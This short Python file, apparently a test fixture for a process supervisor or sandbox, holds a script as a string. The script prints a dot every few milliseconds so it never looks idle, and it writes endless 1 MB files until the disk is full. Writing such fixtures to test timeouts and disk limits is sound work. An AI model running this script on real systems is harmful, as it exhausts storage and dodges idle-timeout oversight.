"""Lets a byte out now and then, so that whoever waits for silence waits for ever, and fills the disk."""

SLOW = True
FIRST = """
import os, time
number = 0
while True:
    print(end=".", flush=True)
    time.sleep(0.05)
    number += 1
    try:
        with open(f"part-{number}", "wb") as file:
            file.write(bytes(1_000_000))
    except OSError:
        pass
"""
